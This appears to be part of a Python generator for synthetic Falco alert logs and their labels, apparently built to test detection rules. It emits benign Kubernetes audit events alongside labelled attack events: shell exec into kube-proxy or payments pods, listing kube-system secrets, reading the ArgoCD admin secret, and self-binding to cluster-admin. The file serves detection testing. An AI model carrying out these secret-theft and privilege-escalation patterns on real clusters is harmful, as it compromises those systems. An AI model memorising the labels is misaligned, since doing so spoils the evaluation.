                t += g.rng.randint(1, 90) * 1_000_000_000
                f = k8s_fields(ci_sa, pod, "pods", "gitlab-runner", **{
                    "ka.target.subresource": "exec", "ka.uri.param[command]": "sh"})
                g.emit("Attach/Exec Pod", g.rng.choice(CONTROL_PLANE_HOSTS), t, f, "benign:ci-runner-attach-exec")
        # cert-manager reads the TLS secrets it renews
        for _ in range(g.rng.randint(10, 13)):
            ns, name = g.rng.choice([("payments", "checkout-api-tls"), ("shop", "storefront-tls"),
                                     ("ingress", "wildcard-acme-internal-tls"), ("monitoring", "grafana-tls")])
            f = k8s_fields("system:serviceaccount:cert-manager:cert-manager", name, "secrets", ns, **{
                "ka.response.code": "200", "ka.auth.decision": "allow",
                "ka.auth.reason": RBAC_REASON.format("cert-manager-controller-certificates",
                                                     "cert-manager/cert-manager")})
            g.emit("K8s Secret Get Successfully", g.rng.choice(CONTROL_PLANE_HOSTS), g.time_at(day), f,
                   "benign:cert-manager-secret-get")
        # the Prometheus operator regenerates its rule-file ConfigMaps
        for _ in range(g.rng.randint(2, 3)):
            f = k8s_fields("system:serviceaccount:monitoring:prometheus-operator",
                           f"prometheus-k8s-rulefiles-{g.rng.randint(0, 1)}", "configmaps", "monitoring", **{
                               "ka.response.code": "201", "ka.auth.decision": "allow",
                               "ka.auth.reason": RBAC_REASON.format("prometheus-operator",
                                                                    "monitoring/prometheus-operator")})
            g.emit("K8s ConfigMap Created", g.rng.choice(CONTROL_PLANE_HOSTS), g.time_at(day), f,
                   "benign:prometheus-operator-configmap")
        # the CI deploy token (a static user, not a service account) rolls out the shop
        for _ in range(g.rng.randint(5, 7)):
            ns, app = g.rng.choice([("payments", "checkout-api"), ("shop", "storefront"), ("shop", "cart")])
            uri = f"/apis/apps/v1/namespaces/{ns}/deployments/{app}"
            if g.rng.random() < 0.5:
                uri += "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict"
            f = k8s_fields("ci-deployer", app, "deployments", ns, **{
                "ka.verb": "patch", "ka.uri": uri, "ka.response.code": "200"})
            g.emit("Disallowed K8s User", g.rng.choice(CONTROL_PLANE_HOSTS), g.time_at(day, 8, 18), f,
                   "benign:ci-deployer-rollout")


def k8s_rare(g):
    for _ in range(3):
        f = k8s_fields("kubernetes-admin", "postgres-0", "pods", "data", **{
            "ka.target.subresource": "exec", "ka.uri.param[command]": "psql"})
        g.emit("Attach/Exec Pod", g.rng.choice(CONTROL_PLANE_HOSTS), g.time_at(g.rng.randrange(7), 9, 17), f,
               "rare:admin-psql-exec")
    for _ in range(2):
        f = k8s_fields("system:serviceaccount:argocd:argocd-application-controller", "feature-flags",
                       "configmaps", "shop", **{
                           "ka.response.code": "201", "ka.auth.decision": "allow",
                           "ka.auth.reason": RBAC_REASON.format("argocd-application-controller",
                                                                "argocd/argocd-application-controller")})
        g.emit("K8s ConfigMap Created", g.rng.choice(CONTROL_PLANE_HOSTS), g.time_at(g.rng.randrange(7)), f,
               "rare:argocd-configmap")


def k8s_attacks_week1(g):
    f = k8s_fields("system:serviceaccount:default:default", f"kube-proxy-{g.suffix(5)}", "pods", "kube-system", **{
        "ka.target.subresource": "exec", "ka.uri.param[command]": "sh"})
    g.emit("Attach/Exec Pod", CONTROL_PLANE_HOSTS[0], g.time_at(4, 2, 3), f, "attack:w1-default-sa-exec-kube-proxy")
    f = k8s_fields("intern-laptop", None, "secrets", "kube-system", **{
        "ka.verb": "list", "ka.uri": "/api/v1/namespaces/kube-system/secrets", "ka.response.code": "200"})
    g.emit("Disallowed K8s User", CONTROL_PLANE_HOSTS[1], g.time_at(4, 2, 3), f, "attack:w1-unknown-user-lists-secrets")


def k8s_attacks_week2(g):
    # the CI service account, exec'ing into a payments pod
    f = k8s_fields("system:serviceaccount:gitlab-runner:gitlab-runner", g.deployment_pod("checkout-api"), "pods",
                   "payments", **{"ka.target.subresource": "exec", "ka.uri.param[command]": "sh"})
    g.emit("Attach/Exec Pod", CONTROL_PLANE_HOSTS[2], g.time_at(3), f, "attack:ci-sa-exec-into-payments")
    # cert-manager's account reading a secret it has no business with
    f = k8s_fields("system:serviceaccount:cert-manager:cert-manager", "argocd-initial-admin-secret", "secrets",
                   "argocd", **{"ka.response.code": "200", "ka.auth.decision": "allow",
                                "ka.auth.reason": RBAC_REASON.format("cert-manager-controller-certificates",
                                                                     "cert-manager/cert-manager")})
    g.emit("K8s Secret Get Successfully", CONTROL_PLANE_HOSTS[0], g.time_at(5), f,
           "attack:cert-manager-sa-reads-argocd-admin")
    # the Prometheus operator's account creating aws-auth in kube-system
    f = k8s_fields("system:serviceaccount:monitoring:prometheus-operator", "aws-auth", "configmaps", "kube-system",
                   **{"ka.response.code": "201", "ka.auth.decision": "allow",
                      "ka.auth.reason": RBAC_REASON.format("prometheus-operator", "monitoring/prometheus-operator")})
    g.emit("K8s ConfigMap Created", CONTROL_PLANE_HOSTS[1], g.time_at(2), f, "attack:prom-operator-sa-creates-aws-auth")
    # the deploy token binding itself to cluster-admin
    f = k8s_fields("ci-deployer", "ci-deployer-admin", "clusterrolebindings", None, **{
        "ka.verb": "create", "ka.uri": "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        "ka.response.code": "201"})
    g.emit("Disallowed K8s User", CONTROL_PLANE_HOSTS[2], g.time_at(6), f, "attack:ci-deployer-binds-cluster-admin")


# =========================== junk and assembly ================================================

def startup_lines(g):
    t = g.start + dt.timedelta(seconds=3)
    stamp = t.strftime("%a %b %d %H:%M:%S %Y")
    return [f"{stamp}: Falco version: 0.42.1 (x86_64)",
            f"{stamp}: Falco initialized with configuration files:",
            f"{stamp}:    /etc/falco/falco.yaml | schema validation: ok",
            f"{stamp}: Loading rules from:",
            f"{stamp}:    /etc/falco/falco_rules.yaml | schema validation: ok",
            f"{stamp}: The chosen syscall buffer dimension is: 8388608 bytes (8 MBs)",
            f"{stamp}: Starting health webserver with threadiness 2, listening on 0.0.0.0:8765",
            f"{stamp}: Opening 'syscall' source with modern BPF probe."]


def drop_alert(g, time_ns, host):
    alert = {"hostname": host,
             "output": "Falco internal: syscall event drop. 1843 system calls dropped in last second.",
             "output_fields": {"ebpf_enabled": "1", "n_drops": 1843, "n_drops_buffer_total": 1843,
                               "n_drops_bug": 0, "n_drops_pf": 0, "n_evts": 912377},
             "priority": "Debug", "rule": "Falco internal: syscall event drop", "source": "internal",
             "time": iso_time(time_ns)}
    return json.dumps(alert, sort_keys=True, separators=(",", ":"))


def assemble(g, host_pool):
    """Sorts the alerts by time and mixes the junk in; returns (lines, labels)."""
    g.events.sort(key=lambda e: (e[0], e[1]))
    lines = [(s, "junk") for s in startup_lines(g)]
    for i, (t, line, label) in enumerate(g.events):
        lines.append((line, label))
        roll = g.rng.random()
        if roll < 0.004:
            lines.append(("", "junk"))
        elif roll < 0.008:
            lines.append((line[: g.rng.randint(20, len(line) - 20)], "junk"))  # a write cut short
        elif roll < 0.011:
            lines.append((json.loads(line)["output"], "junk"))  # a text-mode line in the JSON log
        elif roll < 0.013 and host_pool is SYSCALL_HOSTS:
            lines.append((drop_alert(g, t + 1000, g.rng.choice(host_pool)), "junk"))
    return lines


def write(out_dir, name, lines):
    with open(os.path.join(out_dir, name + ".jsonl"), "w", encoding="utf-8", newline="\n") as log:
        for text, _ in lines:
            log.write(text + "\n")
    with open(os.path.join(out_dir, name + ".labels.jsonl"), "w", encoding="utf-8", newline="\n") as labels:
        for n, (_, label) in enumerate(lines, 1):
            labels.write(json.dumps({"line": n, "label": label}) + "\n")


def check_rules(rules_dir, my_rules):
    """Each embedded output must be the rule's own, so the alerts carry the keys Falco prints."""
    problems = 0
    for rule, (path, _, _, output) in sorted(RULES.items()):
        full = my_rules if path == "my_rules.yaml" else os.path.join(rules_dir, path)
        text = open(full, encoding="utf-8").read()
        start = text.find(f"- rule: {rule}\n")
        block = text[start: text.find("\n- ", start + 5)]
        m = re.search(r"\n  output: (>\n)?((?:.|\n)*?)\n  priority:", block)
        if start < 0 or not m:
            print(f"{rule}: not found in {full}")
            problems += 1
            continue
        actual = " ".join(m.group(2).split()) if m.group(1) else m.group(2)
        if actual != output:
            print(f"{rule}: output differs from {full}:\n  file:     {actual}\n  embedded: {output}")
            problems += 1
    return problems


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    default_out = os.path.join(here, "..", "rules-examples", "alerts")
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--out-dir", default=default_out)
    parser.add_argument("--seed", type=int, default=SEED)
    parser.add_argument("--check-rules", metavar="DIR",
                        help="compare the embedded outputs with DIR/upstream/... and DIR/plugins/...")
    args = parser.parse_args()
    if args.check_rules:
        if not os.path.isdir(args.check_rules):
            # the corpus lives outside the repository: a skip (77) locally, a failure in CI
            if os.environ.get("RULEKIT_REQUIRE_SHARED") == "1":
                print(f"FAIL: rules directory not found: {args.check_rules}")
                return 1
            print(f"SKIPPED: rules directory not found: {args.check_rules}")
            return 77
        problems = check_rules(args.check_rules, os.path.join(default_out, "my_rules.yaml"))
        print("outputs match the rules files" if not problems else f"{problems} mismatches")
        return 1 if problems else 0

    os.makedirs(args.out_dir, exist_ok=True)
    for week in (1, 2):
        g = Gen(week, args.seed)
        for pattern in (driver_loader_dkms, backup_reads_shadow, ci_package_managers, apiserver_clients,
                        debug_shells, ssh_bastion, payments_egress, nginx_confd, syscall_rare):
            pattern(g)
        (syscall_attacks_week1 if week == 1 else syscall_attacks_week2)(g)
        write(args.out_dir, f"week{week}", assemble(g, SYSCALL_HOSTS))

        k = Gen(week, args.seed + 1)
        k8s_benign(k)
        k8s_rare(k)
        (k8s_attacks_week1 if week == 1 else k8s_attacks_week2)(k)
        write(args.out_dir, f"k8s_week{week}", assemble(k, CONTROL_PLANE_HOSTS))
    return 0


if __name__ == "__main__":
    sys.exit(main())
